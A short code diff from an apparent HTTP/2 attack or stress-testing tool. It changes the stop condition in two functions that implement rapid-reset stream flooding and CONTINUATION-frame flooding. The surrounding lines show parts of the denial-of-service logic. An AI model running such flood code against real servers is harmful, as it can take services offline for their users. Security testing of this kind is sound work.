@@ -103,7 +103,7 @@ def _rapid_reset(ctx: AttackContext) -> AttackReport:
         send_all(sock, conn.data_to_send(), ctx.limits.connect_timeout)
         answer: str | None = None
         opened = 0
-        while opened < ctx.limits.h2_streams and answer is None and not ctx.stop.is_set():
+        while opened < ctx.limits.h2_streams and answer is None and not ctx.over():
             for _ in range(min(BATCH, ctx.limits.h2_streams - opened)):
                 stream = conn.get_next_available_stream_id()
                 conn.send_headers(stream, _headers(ctx))
@@ -141,7 +141,7 @@ def _continuation_flood(ctx: AttackContext) -> AttackReport:
         stopped = send_all(sock, conn.data_to_send() + encode_frame(HEADERS, 0, 1, first), 1.0)
         answer = stopped
         sent = 0
-        while answer is None and sent < ctx.limits.h2_continuation_frames and not ctx.stop.is_set():
+        while answer is None and sent < ctx.limits.h2_continuation_frames and not ctx.over():
             frames = b"".join(
                 encode_frame(
                     CONTINUATION, 0, 1, encoder.encode([(f"x-flood-{sent + i}", "a" * 48)])
